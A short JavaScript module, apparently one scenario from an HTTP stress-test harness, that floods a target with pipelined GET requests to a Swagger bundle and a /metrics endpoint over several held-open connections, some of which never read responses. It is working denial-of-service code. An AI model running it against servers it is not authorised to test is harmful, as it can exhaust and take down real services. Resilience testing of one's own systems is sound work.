import { keepOpen, rawHttp, requestHead } from '../http-attacker.mjs'

export const title =
  '1. pipelined requests without a credential: 3 connections of 150 kB that do not read, 3 of 350 kB for `/metrics`'

/** Bytes of one connection's requests, all sent at once. */
const assetBytes = 150_000
const metricsBytes = 350_000
const everyMs = 20

export async function attack(target, told) {
  const assets = pipelined('/api/docs/swagger-ui-bundle.js', assetBytes)
  const metrics = pipelined('/metrics', metricsBytes)
  void keepOpen(3, { everyMs }, () => rawHttp(target, told, assets, { reads: false }))
  void keepOpen(3, { everyMs }, () => rawHttp(target, told, metrics))
  await new Promise(() => undefined)
}

function pipelined(path, bytes) {
  const head = requestHead('GET', path)
  return head.repeat(Math.ceil(bytes / head.length))
}
